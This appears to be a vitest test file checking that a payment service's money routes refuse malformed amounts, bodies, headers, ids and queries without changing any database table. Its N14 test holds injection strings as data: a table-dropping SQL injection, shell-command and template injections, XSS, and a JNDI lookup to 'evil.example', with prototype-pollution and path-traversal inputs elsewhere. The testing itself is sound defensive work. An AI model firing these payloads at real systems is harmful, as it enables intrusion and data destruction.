import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { openHouse, type TestHouse } from "../house.ts";
import { type Answer, type Cast, goodCall, moneyRoutes, openCast, send } from "./money-routes.ts";

// Every money route of the contract, spoilt in one way at a time. Whatever is refused changes
// nothing: the tables are compared byte for byte before and after (L17).

let house: TestHouse;
let cast: Cast;
beforeAll(async () => {
  house = await openHouse();
  cast = await openCast(house);
});
afterAll(() => house.close());

const withAmount = moneyRoutes.filter((route) => route.body?.properties["amount"]);
const withBody = moneyRoutes.filter((route) => route.body);

const TABLES = [
  "account",
  "entry",
  "posting",
  "payment",
  "transfer",
  "topup",
  "withdrawal",
  "ord",
  "hold",
  "limit_use",
  "bill",
  "event",
  "claim",
  "reply",
];

// Whoever refuses at a full hour signs the chain's head beside it; that is nobody's request.
const OWN = "signed-head:";

/** What stands in the books: equal before and after whatever was refused. */
async function books(): Promise<string> {
  const hashes = await Promise.all(
    TABLES.map(async (table) => {
      const { rows } = await house.house.pool.query<{ hash: string }>(
        `select md5(coalesce(string_agg(t::text, '' order by t::text), '')) as hash
         from ${table} t where not starts_with(t::text, $1)`,
        [`(${OWN}`],
      );
      return rows[0]?.hash;
    }),
  );
  return hashes.join();
}

const TRIES = 3;

// On a busy machine what was done before is still being told around meanwhile, and its subscribers
// write; a refusal that leaves a trace leaves one each time.
async function refusesWithoutTrace(act: () => Promise<Answer>, statuses: readonly number[]) {
  for (let tries = 1; ; tries++) {
    const before = await books();
    const answer = await act();
    expect(statuses, `${answer.status} ${answer.text.slice(0, 300)}`).toContain(answer.status);
    expect(answer.code).toBeDefined();
    const after = await books();
    if (after === before) return;
    if (tries === TRIES) expect(after).toBe(before);
  }
}

type Amount = Record<string, unknown> | unknown;
const value = (text: unknown, currency: unknown = "CNY"): Amount => ({ currency, value: text });

const badAmounts: Readonly<Record<string, readonly Amount[]>> = {
  "N01 zero and negative amounts": [value("0.00"), value("-1.00"), value("-0.00"), value("-5")],
  "N02 more or fewer digits than the currency has": [
    value("0.1"),
    value("1.005"),
    value("10"),
    value("1.0", "JPY"),
    value("1.000"),
  ],
  "N03 amounts beyond every bound": [
    value("90071992547409930.00"),
    value("99999999999999999999"),
    value(`${"9".repeat(1000)}.00`),
  ],
  "N04 other spellings of a number": [
    value("1e3"),
    value("0x10"),
    value(" 12.00 "),
    value("１２.00"),
    value("1,000.00"),
    value("+5.00"),
    value("012.00"),
    value(".50"),
    value("5."),
  ],
  "N05 what is no amount at all": [
    null,
    true,
    [],
    {},
    "",
    value("NaN"),
    value("Infinity"),
    value(""),
    value(null),
    value(true),
    value([]),
    value({}),
  ],
  "N06 a number instead of a string": [value(10), value(10.5), 10],
  "N08 another or no currency": [
    value("10.00", "USD"),
    value("10.00", "cny"),
    value("10.00", "ABC"),
    value("10.00", "XXX"),
    value("10.00", "CNH"),
    value("10.00", ""),
    value("10.00", null),
  ],
};

describe.each(withAmount.map((route) => [route.name, route] as const))("%s", (_, route) => {
  test.each(Object.entries(badAmounts))("%s are refused and leave no trace", async (_name, bad) => {
    const call = await goodCall(route, cast);
    for (const amount of bad) {
      await refusesWithoutTrace(
        () => send(call, { body: JSON.stringify({ ...call.body, amount }) }),
        [400, 422],
      );
    }
  });
});

describe.each(withBody.map((route) => [route.name, route] as const))("%s", (_, route) => {
  test("N10 unknown, double and dangerous members are refused", async () => {
    const call = await goodCall(route, cast);
    const text = JSON.stringify(call.body);
    const bodies = [
      text.replace(/}$/, ',"unknown":1}'),
      text.replace(/^{/, '{"__proto__":{"admin":true},'),
      text.replace(/^{/, '{"constructor":{"prototype":{}},'),
      `${text.slice(0, -1)},${text.slice(1)}`,
    ];
    for (const body of bodies) await refusesWithoutTrace(() => send(call, { body }), [400]);
    expect(Object.getPrototypeOf({})).toBe(Object.prototype);
    expect("admin" in {}).toBe(false);
  });

  test("N11 fields that exist inside are refused, never ignored", async () => {
    const call = await goodCall(route, cast);
    for (const name of [
      "balance",
      "role",
      "kycTier",
      "tier",
      "status",
      "state",
      "feeBps",
      "userId",
    ]) {
      await refusesWithoutTrace(
        () => send(call, { body: JSON.stringify({ ...call.body, [name]: "T3" }) }),
        [400],
      );
    }
  });

  test("N12 bodies that are too large or too deep are refused at once", async () => {
    const call = await goodCall(route, cast);
    const large = JSON.stringify({ ...call.body, note: "x".repeat(10_000_000) });
    await refusesWithoutTrace(() => send(call, { body: large }), [413]);
    const deep = `${"[".repeat(1000)}${"]".repeat(1000)}`;
    await refusesWithoutTrace(() => send(call, { body: deep }), [400]);
  });

  test("N13 another media type, charset or a byte order mark is refused", async () => {
    const call = await goodCall(route, cast);
    const body = JSON.stringify(call.body);
    const types = [
      "text/plain",
      "application/x-www-form-urlencoded",
      "application/json; charset=utf-7",
    ];
    for (const type of types) {
      await refusesWithoutTrace(
        () => send(call, { body, headers: { "content-type": type } }),
        [415],
      );
    }
    await refusesWithoutTrace(() => send(call, { body: `\ufeff${body}` }), [400]);
    const broken = Buffer.concat([Buffer.from(body.slice(0, -1)), Buffer.from([0xff, 0x7d])]);
    await refusesWithoutTrace(() => send(call, { body: broken }), [400]);
  });

  test("N16 NUL and lone surrogates are refused before they reach a batch", async () => {
    const call = await goodCall(route, cast);
    const names = Object.entries(call.body ?? {}).filter(([, text]) => typeof text === "string");
    for (const [name] of names) {
      for (const escape of ["\\u0000", "\\ud800"]) {
        const body = JSON.stringify({ ...call.body, [name]: "MARK" }).replace("MARK", escape);
        await refusesWithoutTrace(() => send(call, { body }), [400]);
      }
    }
  });
});

describe.each(moneyRoutes.map((route) => [route.name, route] as const))("%s", (_, route) => {
  test("N17 ids that cannot be are things that are not there", async () => {
    const call = await goodCall(route, cast);
    const { path } = call;
    if (!route.params) return expect(path).not.toContain(":");
    const ids = [
      "1",
      "-1",
      "..%2f..%2fetc",
      "%2e%2e",
      "pay_1",
      "x".repeat(300),
      "123e4567-e89b-12d3-a456-426614174000",
    ];
    for (const id of ids) {
      const bad = path.replace(/[a-z]{3}_[0-9A-Z]{26}/, id);
      await refusesWithoutTrace(() => send({ ...call, path: bad }), [400, 404]);
    }
  });

  test("N20 a missing, empty, overlong or non-ASCII key is refused", async () => {
    const call = await goodCall(route, cast);
    for (const key of ["", "short", "k".repeat(129), "with space here", "schl\u00fcssel-1"]) {
      await refusesWithoutTrace(() => send(call, { headers: { "idempotency-key": key } }), [400]);
    }
  });
});

test.each([
  "'; drop table claim; --",
  "1' or '1'='1",
  '{"$gt": ""}',
  "*)(uid=*))(|(uid=*",
  "' or count(/*)=1 or '",
  "{{7*7}} ${7*7} <%= 7*7 %>",
  "$(id) `id` | id; id && id",
  "%s%n%x %1$n",
  "<script>alert(1)</script><img src=x onerror=alert(1)>",
  "jndi:ldap://evil.example/a",
])("N14 %s is a text like any other, stored and read back as it was", async (text) => {
  const route = moneyRoutes.find(({ name }) => name === "sendTransfer");
  if (!route) throw new Error("there is a route to send");
  const call = await goodCall(route, cast);
  const sent = await send(call, { body: JSON.stringify({ ...call.body, note: text }) });
  expect(sent.status, sent.text).toBe(201);
  const { id } = JSON.parse(sent.text);
  const got = await fetch(`${call.base}/v1/transfers/${id}`, { headers: cast.payer.headers });
  expect(Object.values(JSON.parse(await got.text()))).toContain(text);
});

test("X16 a member that nobody knows is refused without being repeated", async () => {
  const route = moneyRoutes.find(({ name }) => name === "sendTransfer");
  if (!route) throw new Error("there is a route to send");
  const call = await goodCall(route, cast);
  const body = JSON.stringify({ ...call.body, "张三 13800007391": 1 });
  const answer = await send(call, { body });
  expect([answer.status, answer.text.includes("13800007391")]).toEqual([400, false]);
  expect(answer.text).toContain("additionalProperties");
});

test("N18 a query said twice, unknown, out of range or with a bad cursor is refused", async () => {
  const base = house.house.urls.wallet;
  for (const query of [
    "limit=1&limit=9999",
    "limit=-1",
    "limit=0",
    "limit=101",
    "limit=1e2",
    "limit=abc",
    "cursor=..",
    "cursor=x",
    "unknown=1",
    "kind=all",
    "limit=1.5",
  ]) {
    const answer = await fetch(`${base}/v1/bills?${query}`, { headers: cast.payer.headers });
    expect(answer.status, query).toBe(400);
  }
});

test("N21 a note of the most and of one more character", async () => {
  const route = moneyRoutes.find(({ name }) => name === "sendTransfer");
  if (!route) throw new Error("there is a route to send");
  const call = await goodCall(route, cast);
  const note = (text: string) => JSON.stringify({ ...call.body, note: text });
  const longest = route.body?.properties["note"];
  const max = (longest as { maxLength?: number }).maxLength ?? 200;
  await refusesWithoutTrace(() => send(call, { body: note("字".repeat(max + 1)) }), [400]);
  const formula = await send(call, { body: note("=HYPERLINK(1)") });
  expect(formula.status, formula.text).toBe(201);
});
